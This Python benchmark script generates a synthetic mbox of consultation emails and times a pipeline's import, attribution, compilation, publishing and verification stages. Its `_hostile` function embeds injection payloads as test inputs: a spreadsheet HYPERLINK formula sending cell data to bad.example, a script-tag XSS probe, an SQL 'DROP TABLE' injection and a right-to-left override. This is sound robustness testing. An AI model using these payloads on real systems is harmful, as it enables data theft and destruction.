"""Does a docket of many short mails grow into its record in a straight line?

    python bench/docket.py [SIZE]... [--database URL] [--folder FOLDER]

Dockets of 2,000 and of 10,000 mails, or of the sizes named, go all the way: import of
an mbox, attribution in a pool of two, letters, folding by itself, compilation with its
proof, publication, and `verify`. Of ten mails nine are a campaign's: the letter as it
is, with a sentence of one's own, or with one put for another; of the others most are
like none, and some are hostile, broken, twice there, or late. Most
senders are of one of 900 organisations, others are known to nobody. Each stage is
a process of its own. Told are seconds of the processor (of the children, too), those of
the clock, and the megabytes that its largest process had; a server of a database counts
in neither. `growth` is the exponent of the processor's time from the size before: 1 is
linear. `--database` names a server of PostgreSQL, which gets a database a docket.

A large docket takes hours. With `--folder` it stays there, SIGTERM ends it at the next
batch, and the same call goes on where it was; what a stage took in several calls is
added up.
"""

from __future__ import annotations

import json
import math
import random
import re
import signal
import sys
import tempfile
import threading
import time
from contextlib import nullcontext
from dataclasses import asdict, dataclass, replace
from datetime import UTC, datetime, timedelta
from functools import cache
from multiprocessing import active_children, forkserver
from pathlib import Path
from typing import TYPE_CHECKING, Annotated

import sqlalchemy as sa
import typer

sys.path.insert(0, str(Path(__file__).parent.parent))

from bench.attribution import WORDS
from bench.cost import alone, peak, processor
from pipeline import compile as compilation
from pipeline.garbage import collect_seldom
from pipeline.importing import take
from pipeline.locks import lead
from pipeline.proof.verify import verify
from pipeline.publish import publish
from pipeline.service import Service
from pipeline.settings import load
from rules.folding import folds
from tests.consultation import AFTER, REGISTRY, TOO_LATE, write

if TYPE_CHECKING:
    from collections.abc import Callable

SIZES = (2_000, 10_000)
GROWTH, MEGABYTES = 1.05, 1024  # asked for at most, of all stages and of each process
PARAGRAPHS, CAMPAIGNS, ORGANISATIONS = 60, 40, 900
_FIRST = datetime(2026, 3, 1, 8, tzinfo=UTC)
_STOPPED = threading.Event()


@dataclass(frozen=True, slots=True, kw_only=True)
class Seen:
    """What a stage took, in seconds and megabytes, and what came of it."""

    processor: float
    clock: float
    megabytes: float
    what: str
    whole: bool = True  # not stopped before its end

    def after(self, before: Seen | None) -> Seen:
        """Add what an earlier call took for the same stage."""
        if before is None:
            return self
        return replace(
            self,
            processor=self.processor + before.processor,
            clock=self.clock + before.clock,
            megabytes=max(self.megabytes, before.megabytes),
        )


def as_mbox(path: Path, mails: int) -> None:
    """Write a docket, mail by mail."""
    with path.open("wb") as file:
        for n in range(mails):
            file.write(b"From x Tue Mar 10 10:00:00 2026\n" + mail(n) + b"\n\n")


def mail(n: int) -> bytes:
    """Write the nth mail, the same whenever it is written."""
    chance = random.Random(n)  # noqa: S311 (repeatable, no secret)
    kind = chance.random()
    if kind < 0.004 and n:
        return mail(n - 1)  # it came twice
    if kind < 0.01:
        return bytes(chance.randrange(128, 256) for _ in range(300))
    late = 0.01 <= kind < 0.02
    at = _FIRST + timedelta(seconds=n % 1_000_000)
    words = _hostile(chance) if 0.02 <= kind < 0.04 else _letter(chance)
    return (
        f"Received: from relay.example by mx.example.org; "
        f"{TOO_LATE if late else f'{at:%a, %d %b %Y %H:%M:%S} +0000'}\n"
        f"From: {chance.choice(WORDS).title()} {n} <p{n}@host{n % 997}.example>\n"
        f"To: info@example.org\nSubject: Comments on the draft\n"
        f"Message-ID: <m{n}@docket.example>\nContent-Type: text/plain; charset=utf-8\n"
        f"\nDear secretariat,\n\n{words}\n\nYours sincerely,\nCitizen {n}\n"
    ).encode()


def _letter(chance: random.Random) -> str:
    """Write what a citizen sends: a campaign's letter, or one of his own."""
    if chance.random() < 0.0625:
        return f"Paragraph {chance.randint(1, PARAGRAPHS)}: " + " ".join(_body(chance))
    # Some campaigns are far larger than others.
    of = int(CAMPAIGNS * chance.random() ** 3)
    paragraph, body = _campaign(of)
    said = [*body]
    varied = chance.random()
    if varied < 0.3:
        said.insert(chance.randint(1, len(said)), _sentence(chance))
    elif varied < 0.4:
        said[chance.randrange(1, len(said))] = _sentence(chance)
    return f"Paragraph {paragraph}: {' '.join(said)}"


@cache
def _campaign(of: int) -> tuple[int, list[str]]:
    chance = random.Random(f"campaign {of}")  # noqa: S311 (repeatable, no secret)
    return chance.randint(1, PARAGRAPHS), _body(chance)


def _body(chance: random.Random) -> list[str]:
    wish = chance.choice(("should stay", "should go", "is too vague for us"))
    said = [_sentence(chance) for _ in range(chance.randint(2, 5))]
    return [f"This text {wish}.", *said]


def _sentence(chance: random.Random) -> str:
    return f"The {' '.join(chance.choices(WORDS, k=chance.randint(8, 14)))}."


def _hostile(chance: random.Random) -> str:
    """Say what a page, a spreadsheet or a search must not take for its own."""
    return chance.choice(
        (
            '=HYPERLINK("http://bad.example/?"&A1,"Paragraph 1")',
            "Paragraph 2: </td><script>alert(1)</script> please delete it.",
            "Paragraph 3: \u202edesrever\u0007 and " + "a" * 3_000,
            "Paragraph 4: " + "(" * 500 + " ; DROP TABLE deliveries; --",
            "Paragraphs " + ", ".join(map(str, range(1, 400))) + ": delete them all.",
        )
    )


def take_in(service: Service) -> str:
    """Import the mbox."""
    took = take(service.ledger, [service.settings.base / "docket.mbox"])
    return f"{took.new} new"


def attribute(service: Service) -> str:
    """Bring all of it as far as it goes before the cut-off."""
    return f"{service.worker.run(_STOPPED.is_set)} steps"


def answer(service: Service) -> str:
    """Write the letters."""
    return f"{service.post(_STOPPED.is_set).sent} letters"


def fold(service: Service) -> str:
    """Fold the comments of every place, once; each writer of a layout does so."""
    (issue,) = service.due(forced=True).values()
    made = issue.consolidation
    places = [made.general, made.unplaced]
    places += [at.entries for of in made.drafts for at in of.paragraphs]
    printed = sum(len(folds(entries)) for entries in places)
    return f"{made.count} comments, {printed} printed"


def compiled(service: Service) -> str:
    """Issue the compilation: each file written and proofread."""
    (issue,) = service.due(forced=True).values()
    folder, leader = service.settings.compilations_folder, lead(service.ledger, "bench")
    compilation.issue(service.house, issue, folder, leader)
    compilation.settle(leader, issue)
    size = sum(file.stat().st_size for file in folder.iterdir())
    return f"{size / 2**20:.0f} MiB of files"


def published(service: Service) -> str:
    """Make the site, and put it where it is read."""
    issues = service.due(forced=True)
    public = {call: issue.consolidation for call, issue in issues.items()}
    publish(lead(service.ledger, "bench"), service.house, public)
    pages = [*service.settings.site_folder.resolve().rglob("index.html")]
    largest = max(page.stat().st_size for page in pages)
    return f"{len(pages)} pages, the largest {largest / 2**10:.0f} KiB"


def verified(service: Service) -> str:
    """Check it all; the docket is worth nothing if anything is found."""
    if found := [*verify(service)]:
        raise SystemExit(f"verify: {found[:3]}")
    return "clean"


STOPPABLE = (attribute, answer)
STAGES = (take_in, attribute, answer, fold, compiled, published, verified)


def seen(stage: Callable[[Service], str], config: Path) -> Seen:
    """Do one stage; a process that does nothing else is asked."""
    collect_seldom()  # as the command line does
    signal.signal(signal.SIGTERM, lambda *_: _STOPPED.set())
    began, clock = processor(), time.perf_counter()
    with Service(load(config), lambda: AFTER) as service:
        what = stage(service)
    # The pool's processes belong to the server of forks; what they took is known to
    # us when that has ended and not before.
    # Nothing public ends the server of forks, and its cost is told only at its end.
    forkserver._forkserver._stop()  # type: ignore[attr-defined]  # noqa: SLF001 (above)
    return Seen(
        processor=processor() - began,
        clock=time.perf_counter() - clock,
        megabytes=peak(children=True),
        what=what,
        whole=not (stage in STOPPABLE and _STOPPED.is_set()),
    )


def docket(mails: int, url: str, folder: Path) -> dict[str, Seen]:
    """Bring a docket all the way, and tell of each stage when it is done."""
    log = folder / "stages.jsonl"
    took = _earlier(log)
    config = folder / "config.toml" if took else _begin(mails, url, folder)
    for stage in STAGES:
        before = took.get(stage.__name__)
        if before is None or not before.whole:
            took[stage.__name__] = one = alone(seen, stage, config).after(before)
            with log.open("a", encoding="utf-8") as file:
                file.write(json.dumps({stage.__name__: asdict(one)}) + "\n")
        one = took[stage.__name__]
        print(
            f"{mails:9,} {stage.__name__:10} {one.processor:9.1f} {one.clock:9.1f} "
            f"{one.megabytes:6.0f}  {one.what}",
            flush=True,
        )
        if not one.whole or _STOPPED.is_set():
            raise SystemExit("Stopped; the same call goes on.")
    return took


def _earlier(log: Path) -> dict[str, Seen]:
    """Read what stages took in earlier calls; the last line of one is its sum."""
    if not log.exists():
        return {}
    lines = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    return {stage: Seen(**said) for line in lines for stage, said in line.items()}


def _begin(mails: int, url: str, folder: Path) -> Path:
    """Lay out a consultation and its docket."""
    text = "\n\n".join(f"{n}. {_paragraph(n)}" for n in range(1, PARAGRAPHS + 1))
    store: dict[str, object] = {"workers": 2}
    if url:
        store["database"] = _fresh(url, f"docket_{mails}")
    known = [
        f"Society {n},civil society,,,,host{n}.example\n" for n in range(ORGANISATIONS)
    ]
    as_mbox(folder / "docket.mbox", mails)
    return write(folder, draft=text, registry=REGISTRY + "".join(known), store=store)


def _paragraph(n: int) -> str:
    return _sentence(random.Random(f"paragraph {n}"))  # noqa: S311 (repeatable)


def _fresh(url: str, name: str) -> str:
    """Make an empty database on the server, in the place of an earlier one."""
    engine = sa.create_engine(url, isolation_level="AUTOCOMMIT")
    with engine.connect() as connection:
        connection.execute(sa.text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        connection.execute(sa.text(f'CREATE DATABASE "{name}"'))
    engine.dispose()
    return re.sub(r"/[^/]*$", f"/{name}", url)


def main(
    sizes: Annotated[list[int] | None, typer.Argument(metavar="SIZE")] = None,
    database: Annotated[str, typer.Option(metavar="URL")] = "",
    kept: Annotated[Path | None, typer.Option("--folder", metavar="FOLDER")] = None,
) -> None:
    """Print what was seen; 1 if that is worse than what is asked."""
    signal.signal(signal.SIGTERM, _stop)
    print("    mails stage      processor     clock     MB", flush=True)
    before: tuple[int, dict[str, Seen]] | None = None
    missed = 0
    for mails in sorted(sizes or SIZES):
        with nullcontext(kept) if kept else tempfile.TemporaryDirectory() as folder:
            place = Path(folder) / str(mails)
            place.mkdir(parents=True, exist_ok=True)
            took = docket(mails, database, place)
        whole = sum(one.processor for one in took.values())
        clock = sum(one.clock for one in took.values())
        most = max(one.megabytes for one in took.values())
        print(f"{mails:9,} {'all':10} {whole:9.1f} {clock:9.1f} {most:6.0f}")
        missed += most > MEGABYTES
        if before:
            least, then = before
            ratio = math.log(mails / least)
            for name, one in took.items():
                growth = math.log(one.processor / then[name].processor) / ratio
                print(f"{'':9} {name:10} growth {growth:5.2f}")
            grown = math.log(whole / sum(s.processor for s in then.values())) / ratio
            print(f"{'':9} {'all':10} growth {grown:5.2f}, {GROWTH} is asked")
            missed += grown > GROWTH
        before = mails, took
    sys.exit(bool(missed))


def _stop(*_: object) -> None:
    _STOPPED.set()
    for process in active_children():
        process.terminate()


if __name__ == "__main__":
    typer.run(main)
